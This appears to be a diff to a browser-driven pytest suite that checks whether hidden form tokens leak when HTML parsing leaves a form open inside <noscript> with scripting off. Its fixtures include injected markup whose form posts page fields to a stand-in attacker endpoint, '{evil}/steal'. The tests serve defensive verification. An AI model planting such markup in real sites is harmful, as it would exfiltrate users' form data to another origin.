@@ -143,6 +143,17 @@ PAGES: dict[str, Callable[[str], str]] = {
     "/leak/svg-form-in-a-get-form": lambda evil: (
         f'<form method="get" action="/search">{FIELD}<svg><form></form></svg>'
         '<form method="post" action="/ok"><button id="go">Go</button></form>'),
+    # (scripting off: a <form> left open in <noscript> keeps the form element pointer, so the
+    # post form's start tag is ignored and its fields join that form; closed: the control)
+    "/leak/noscript-open-get-form": lambda evil: (
+        '<noscript><form method="get" action="/search"><input name=q></noscript>'
+        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
+    "/leak/noscript-open-off-origin-form": lambda evil: (
+        f'<noscript><form method="post" action="{evil}/steal"><input name=q></noscript>'
+        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
+    "/home/noscript-closed-form": lambda evil: (
+        '<noscript><form method="get" action="/search"><input name=q></form></noscript>'
+        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
     "/home/base/page": lambda evil: (
         '<base href="/home/">'
         f'<form method="post" action="save">{FIELD}{LINK}'
@@ -356,6 +367,65 @@ def test_no_tokens_leave_through_a_base_in_noscript_with_scripting_off(
         assert not set(TOKENS) & set(sent)
         received = recorders[1].wait_for("POST", "/landing/save")
         assert not set(TOKENS) & set(received.fields)
+    finally:
+        context.close()
+
+
+@pytest.mark.parametrize(
+    ("path", "method", "elsewhere", "where"),
+    [
+        pytest.param("/leak/noscript-open-get-form", "GET", False, "/search",
+                     id="get-form-left-open"),
+        pytest.param("/leak/noscript-open-off-origin-form", "POST", True, "/steal",
+                     id="off-origin-form-left-open"),
+    ],
+)
+def test_no_tokens_join_a_form_left_open_in_noscript_with_scripting_off(
+    browser: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], path: str, method: str, elsewhere: bool, where: str,
+) -> None:
+    """With scripting off, a <form> left open inside <noscript> keeps the parser's form
+    element pointer: the post form's start tag is ignored, and its fields (and its button)
+    join that form, which submits them by GET or to another origin: without tokens."""
+    target = servers[3] if elsewhere else servers[1]
+    context = browser.new_context(java_script_enabled=False)
+    try:
+        page = context.new_page()
+        response = page.goto(servers[1] + path)
+        assert 'name="__EVENTTARGET"' in response.text()
+        assert not any(f'name="{token}"' in response.text() for token in TOKENS)
+        request = click_and_capture(page, "#go", lambda r: r.url.startswith(target + where))
+        assert request.method == method
+        sent = sent_fields(request)
+        assert sent["note"] == "kept" and "q" in sent  # (the noscript form's submission)
+        assert not set(TOKENS) & set(sent) and not any(token in request.url for token in TOKENS)
+        if elsewhere:
+            received = recorders[1].wait_for(method, where)
+            assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
+    finally:
+        context.close()
+
+
+@pytest.mark.parametrize("scripting", [False, True], ids=["scripting-off", "scripting-on"])
+def test_a_closed_form_in_noscript_leaves_the_post_forms_tokens(
+    browser: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], scripting: bool,
+) -> None:
+    """A no-JS search form closed inside <noscript>: the post form after it keeps its tokens
+    and posts back, with scripting off as with it on."""
+    app_url = servers[1]
+    context = browser.new_context(java_script_enabled=scripting)
+    try:
+        page = context.new_page()
+        response = page.goto(app_url + "/home/noscript-closed-form")
+        assert all(f'name="{token}"' in response.text() for token in TOKENS)
+        request = click_and_capture(page, "#go", lambda r: r.method == "POST"
+                                    and r.url.startswith(app_url))
+        assert urlsplit(request.url).path == "/save"
+        assert set(TOKENS) <= set(sent_fields(request)) and "q" not in sent_fields(request)
+        received = recorders[0].wait_for("POST", "/save")  # verified: the app was called
+        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
+        assert not recorders[1].seen
     finally:
         context.close()
 
